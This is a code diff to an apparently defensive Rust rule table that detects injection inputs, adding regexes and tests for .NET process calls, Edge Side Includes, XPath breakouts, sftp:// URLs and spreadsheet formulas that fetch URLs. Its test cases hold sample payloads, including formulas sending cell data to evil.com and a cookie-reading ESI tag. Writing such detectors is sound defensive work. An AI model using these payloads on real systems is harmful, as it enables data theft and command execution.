@@ -406,7 +406,7 @@ static RULES: &[Rule] = &[
         Rfi,
         5,
         Plain,
-        r"^\s*(?:url:\s*)?(?:file:/|local_file:|gopher://|dict://|ldaps?://|jar:|netdoc:|tftp://|glob://|ssh2\.\w+://|compress\.(?:zlib|bzip2)://|ogg://|rar://)",
+        r"^\s*(?:url:\s*)?(?:file:/|local_file:|gopher://|dict://|ldaps?://|jar:|netdoc:|tftp://|sftp://|glob://|ssh2\.\w+://|compress\.(?:zlib|bzip2)://|ogg://|rar://)",
     ),
     rule(
         "rfi-metadata-endpoint",
@@ -561,6 +561,30 @@ static RULES: &[Rule] = &[
         Plain,
         r"[a-z0-9]\|\s*'[^'\n]*'\s*!|(?:^|[=+@-])\s*dde(?:auto)?\s*\(|^\s*ddeauto\b",
     ),
+    // .NET's process, file and assembly classes reached from a PowerShell type literal
+    // (`[System.Diagnostics.Process]::Start('calc')`) or a Razor template expression
+    // (`@(System.Diagnostics.Process.Start("cmd.exe"))`, `@{ … }`). The class named in prose or
+    // in a C# question (`System.IO.File.ReadAllText`) is no call.
+    rule(
+        "rce-dotnet-process",
+        Rce,
+        5,
+        Plain,
+        r"\[\s*(?:system\s*\.\s*)?(?:diagnostics\s*\.\s*process(?:startinfo)?|reflection\s*\.\s*assembly|runtime\s*\.\s*interopservices\s*\.\s*marshal)\s*\]\s*::|@[({]?\s*(?:new\s+)?system\s*\.\s*(?:diagnostics\s*\.\s*process|io\s*\.\s*(?:file|directory)|reflection\s*\.\s*assembly|net\s*\.\s*webclient|runtime\s*\.\s*interopservices)\b",
+    ),
+    // A spreadsheet formula that fetches a URL built from the sheet's cells as soon as the
+    // app's CSV export is opened, which sends them along
+    // (`=IMPORTXML(CONCAT("http://evil.com/?d=", A1), "//a")`, `=WEBSERVICE("http://…"&A1)`).
+    // A formula that fetches a fixed URL leaks nothing; `HYPERLINK` waits for a click and
+    // `IMPORTRANGE` for the owner's consent; a value that opens with `-` or `+` before
+    // `image(` is a list item in prose.
+    rule(
+        "rce-spreadsheet-fetch",
+        Rce,
+        5,
+        Plain,
+        r"^\s*(?:[=+@-]\s*(?:[a-z]+\()*(?:importxml|importdata|importhtml|importfeed|webservice)|[=@]\s*(?:[a-z]+\()*image)\(\s*(?:concat(?:enate)?\(|[^)]*&)",
+    ),
     // cmd.exe conditionals: `IF EXIST x (…)`, `IF %V% GEQ 2 …`, `IF a==b GOTO …`, a batch
     // variable compared (`if "%~1" == "%~2"`, `if [%1]==[/?]`, `if "!v!" == "x"`), and the
     // case-blind `/i` comparison only cmd.exe writes (`if /i a==b`). `if n%2==0` is Python.
@@ -708,13 +732,15 @@ static RULES: &[Rule] = &[
         r"(?:^|[\s=:])(?:ro0ab|aced0005)|\borg\.apache\.commons\.collections\d*\.functors\b|\bcom\.sun\.org\.apache\.xalan\.internal\.xsltc\.trax\b|\bysoserial\b",
     ),
     // Server-side template injection.
-    // Server-side includes: `<!--#exec cmd="id" -->`.
+    // Server-side includes, `<!--#exec cmd="id" -->`, and their CDN form, Edge Side
+    // Includes, which a cache in front of the app runs (`<esi:include src="http://…"/>`,
+    // `<esi:vars>$(HTTP_COOKIE)</esi:vars>`): an element with what it acts on, not its name.
     rule(
         "ssti-ssi-directive",
         Ssti,
         5,
         Plain,
-        r"<!--\s*#\s*(?:exec|include|echo|config|set|printenv|fsize|flastmod|if)\b",
+        r"<!--\s*#\s*(?:exec|include|echo|config|set|printenv|fsize|flastmod|if)\b|<\s*esi\s*:\s*[a-z]+\s+(?:src|alt|name|test|value)\s*=|<\s*esi\s*:\s*vars\s*>[^<]*\$\(",
     ),
     rule(
         "ssti-arithmetic-probe",
@@ -764,6 +790,18 @@ static RULES: &[Rule] = &[
         5,
         Plain,
         r"__proto__|\bconstructor\s*[.\[]\s*['\x22]?prototype\b|['\x22]constructor['\x22]\s*:\s*\{\s*['\x22]prototype['\x22]\s*:",
+    ),
+    // XPath injection: the value's first quote closes a predicate and joins another path to
+    // the query (`'] | //user/*[contains(*,'`), or adds a condition on the document's
+    // structure, which only an attacker mapping an unseen XML document asks for (`' and
+    // count(/*)=1 and '1'='1`, `') and starts-with(../password,'c`). An XPath expression
+    // quoted whole closes its own quotes first (`//user[name='bob'] | //admin`).
+    rule(
+        "nosql-xpath-breakout",
+        Nosql,
+        5,
+        Plain,
+        r#"^[^'"]*['"]\s*\)?\s*(?:\]\s*\|\s*/|(?:and|or)\s+(?:count|name|local-name|string-length|substring|contains|starts-with|normalize-space|translate)\s*\(\s*(?:name\s*\(\s*)?(?:\.\./|/|@\*|child::|comment\(\)))"#,
     ),
     // NoSQL operator injection written into a value (keys are checked structurally).
     rule(
@@ -1796,6 +1834,79 @@ mod tests {
             "xss-js-sink-after-break",
             &["${alert(1)}", "{{$on.constructor('alert(1)')()}}"],
             &["${price} is the total", "{{ user.constructor }}"],
+        );
+    }
+
+    #[test]
+    fn includes_dotnet_calls_fetching_formulas_and_xpath_breakouts_are_found() {
+        assert_finds(
+            Forms::PLAIN,
+            "ssti-ssi-directive",
+            &[
+                "<esi:include src=\"http://evil.com/x\"/>",
+                "<esi:vars>$(http_cookie)</esi:vars>",
+            ],
+            &[
+                "the esi tag <esi:include> lets varnish assemble pages",
+                "<esixyz src=x>",
+            ],
+        );
+        assert_finds(
+            Forms::PLAIN,
+            "rce-dotnet-process",
+            &[
+                "[system.diagnostics.process]::start('calc')",
+                "[diagnostics.process]::start('cmd')",
+                "@(system.diagnostics.process.start(\"cmd.exe\"))",
+                "@{ system.io.file.readalltext(\"c:/windows/win.ini\"); }",
+            ],
+            &[
+                "how do i call system.diagnostics.process.start from c#?",
+                "var text = system.io.file.readalltext(path);",
+                "mail me @ system.io if needed",
+            ],
+        );
+        assert_finds(
+            Forms::PLAIN,
+            "rce-spreadsheet-fetch",
+            &[
+                "=importxml(concat(\"http://evil.com/?d=\", a1), \"//a\")",
+                "=webservice(\"http://evil.com/\"&a1)",
+                "+importdata(\"http://evil.com/x.csv?\"&a1)",
+                "=image(\"http://evil.com/p.png?\"&b2)",
+            ],
+            &[
+                "- image(s) of the product",
+                "how does importxml( work in google sheets?",
+                "=hyperlink(\"http://example.com\",\"docs\")",
+                "=sum(a1:a3)",
+                "=sum(importdata(\"https://example.com/data.csv\"))",
+                "=importrange(\"url\", \"sheet1!a1:c10\") pulls another sheet",
+            ],
+        );
+        assert_finds(
+            Forms::PLAIN,
+            "nosql-xpath-breakout",
+            &[
+                "'] | //user/*[contains(*,'",
+                "' and count(/*)=1 and '1'='1",
+                "' and count(/@*)=1 and '1'='1",
+                "') and starts-with(../password,'c",
+                "' or string-length(name(/*[1]))=4 or '",
+            ],
+            &[
+                "the 'count' and 'name' columns",
+                "array[i] | other",
+                "it's 'a] | b' in the docs",
+                "pick 'x' or count (the rest)",
+                "select nodes with //user[name='bob'] | //admin",
+            ],
+        );
+        assert_finds(
+            Forms::PLAIN,
+            "rfi-dangerous-scheme",
+            &["sftp://evil.com:11111/", "tftp://evil.com:12346/x"],
+            &["use sftp:// for uploads"],
         );
     }
 }
